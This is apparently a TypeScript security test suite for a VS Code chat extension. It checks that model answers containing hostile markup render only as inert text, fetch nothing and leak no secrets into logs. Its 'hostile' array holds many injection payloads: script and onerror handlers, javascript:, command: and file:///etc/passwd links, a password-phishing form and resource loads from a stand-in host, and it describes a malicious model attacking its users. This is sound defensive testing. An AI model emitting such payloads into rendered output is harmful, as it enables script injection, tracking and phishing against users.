import assert from 'node:assert/strict';
import { event, chunk, DONE, finishEvent } from '../../standin/events';
import { STANDIN_TOKEN } from '../../standin/tokens';
import { useMachine } from '../../support/workbench/suite';
import { ChatPanel } from './chatPanel';

/** Far from anybody: nothing may ever ask it for anything. */
const lair = 'https://lair.invalid';

/** What a model that means harm, or repeats a page that does, might write. */
const hostile = [
  '# Hostile <script>window.harmed = 1</script>',
  '<script>window.harmed = 1; fetch("https://lair.invalid/script")</script>',
  `<img src="${lair}/picture.png" onerror="window.harmed = 1">`,
  `![tracking](${lair}/tracking.png "a title")`,
  `![data](data:image/svg+xml,<svg onload="window.harmed=1">)`,
  `<svg onload="window.harmed = 1"><script>window.harmed = 1</script></svg>`,
  `<iframe src="${lair}/frame" srcdoc="<script>parent.harmed = 1</script>"></iframe>`,
  `<form action="${lair}/form"><input name="password" autofocus onfocus="window.harmed = 1"><button>Sign in</button></form>`,
  `<style>@import url("${lair}/style.css"); body { background: url("${lair}/background.png"); display: none }</style>`,
  `<link rel="stylesheet" href="${lair}/link.css"><base href="${lair}/"><meta http-equiv="refresh" content="0;url=${lair}/refresh">`,
  `<video src="${lair}/video.mp4" autoplay></video><object data="${lair}/object"></object><embed src="${lair}/embed">`,
  `<details open ontoggle="window.harmed = 1"><summary>x</summary></details>`,
  `<p style="position:fixed;inset:0;background:url(${lair}/fixed.png)">over everything</p>`,
  '[run me](javascript:window.harmed=1)',
  '[run me too](JaVa\tScript:window.harmed=1)',
  '[a command](command:workbench.action.closeWindow)',
  '[a file](file:///etc/passwd)',
  '[an editor link](vscode://huggingphaze.huggingphaze/x)',
  '[data page](data:text/html,<script>parent.harmed=1</script>)',
  `[https://huggingface.co/settings](${lair}/phishing)`,
  '<a href="javascript:window.harmed=1" onclick="window.harmed=1">HTML link</a>',
  '<javascript:window.harmed=1>',
  '[ref]',
  '',
  '[ref]: javascript:window.harmed=1',
  '',
  '```html\n<script>window.harmed = 1</script><img src=x onerror="window.harmed=1">\n```',
  '',
  '| <img src=x onerror="window.harmed=1"> | b |\n|---|---|\n| <script>window.harmed=1</script> | `<b onclick=alert(1)>` |',
  '',
  '&lt;script&gt;window.harmed=1&lt;/script&gt; <huggingphaze-chat></huggingphaze-chat> <vscode-button onclick="window.harmed=1">Set token</vscode-button>',
].join('\n\n');

suite('A model that means harm can do none', () => {
  const machine = useMachine({ standIn: true, settings: { 'huggingphaze.model': 'standin/pleasant' } });
  let panel: ChatPanel;
  const secretQuestion = 'My passphrase is violet-hamster-42; is it good?';

  suiteSetup(
    'opens the chat, signs in, and is answered with hostile text, a few characters at a time',
    async () => {
      panel = await ChatPanel.open(machine());
      await panel.signIn();
      machine.standIn().script('standin/pleasant', ({ json }) => ({
        chunks: pieces(JSON.stringify(json).includes('thoughts') ? 'reasoning' : 'content'),
      }));
    },
  );

  function* pieces(field: 'content' | 'reasoning'): Generator<string> {
    for (let at = 0; at < hostile.length; at += 3) {
      yield event(chunk('standin/pleasant', { [field]: hostile.slice(at, at + 3) }));
    }
    if (field === 'reasoning') yield event(chunk('standin/pleasant', { content: 'Done.' }));
    yield finishEvent('standin/pleasant', 'stop') + DONE;
  }

  async function isUnharmed(): Promise<void> {
    const frame = await panel.window.chatFrame();
    assert.equal(await frame.evaluate(() => 'harmed' in window), false);
    assert.deepEqual(
      await frame.evaluate(() => {
        const found =
          'script, img, svg, iframe, form, style, link, base, meta, video, object, embed, [style]';
        return [...document.querySelectorAll('.answer-text *, .reasoning-text *')]
          .filter(
            (element) =>
              element.matches(found) || [...element.attributes].some(({ name }) => name.startsWith('on')),
          )
          .map((element) => element.outerHTML);
      }),
      [],
    );
    const fetched = await frame.evaluate(() =>
      performance.getEntriesByType('resource').map((entry) => entry.name),
    );
    assert.deepEqual(
      fetched.filter((name) => name.includes('lair')),
      [],
    );
    assert.deepEqual(machine().externalRequests, []);
    assert.ok(
      machine.standIn().received.every(({ path }) =>
        [
          '/v1/chat/completions',
          '/v1/models',
          '/api/whoami-v2',
          // What counts the model's tokens.
          '/standin/pleasant/resolve/main/tokenizer.json',
          '/standin/pleasant/resolve/main/tokenizer_config.json',
        ].includes(path),
      ),
    );
    await panel.composer.waitFor();
  }

  test('nothing of it runs, nothing is fetched, and its markup is only text', async () => {
    const answer = await panel.answerTo(secretQuestion);
    await panel.shows('over everything', answer);
    await isUnharmed();
  });

  test('nor in what the model thinks', async () => {
    const answer = await panel.answerTo('Now your thoughts');
    await answer.getByText('Reasoning', { exact: true }).click();
    await answer.locator('.reasoning-text').getByText('over everything').waitFor();
    await isUnharmed();
  });

  test('links that could act are no links, and the others show where they lead', async () => {
    const answer = panel.articles.nth(1);
    const links = await answer.getByRole('link').all();
    const addresses = await Promise.all(links.map((link) => link.getAttribute('href')));
    assert.ok(addresses.length > 0);
    for (const address of addresses) assert.match(address ?? '', /^https?:\/\//);
    for (const words of ['run me', 'run me too', 'a command', 'a file', 'an editor link', 'data page']) {
      assert.equal(await answer.getByRole('link', { name: words, exact: true }).count(), 0, words);
      // A click on what looks like a link does nothing at all.
      await answer.getByText(words).first().click();
    }
    await answer.getByRole('link', { name: 'https://huggingface.co/settings (lair.invalid)' }).waitFor();
    await isUnharmed();
  });

  test('a link opens only when the person says so in VS Code’s own dialog', async () => {
    const answer = panel.articles.nth(1);
    await answer.getByRole('link', { name: 'https://huggingface.co/settings (lair.invalid)' }).click();
    const dialog = panel.window.dialog(`${lair}/phishing`);
    await dialog.waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'hidden' });
    await isUnharmed();
  });

  test('it is as harmless when it is read from disk again', async () => {
    await panel.reload();
    await panel.shows('over everything', panel.articles.nth(1));
    await isUnharmed();
  });

  test('neither the question, nor the answer, nor the token is in a log', async () => {
    const log = await machine().extensionLog();
    assert.notEqual(log, '');
    const lines = [log, ...panel.window.console].join('\n');
    for (const secret of ['violet-hamster', 'over everything', 'lair.invalid', STANDIN_TOKEN]) {
      assert.ok(!lines.includes(secret), secret);
    }
  });
});
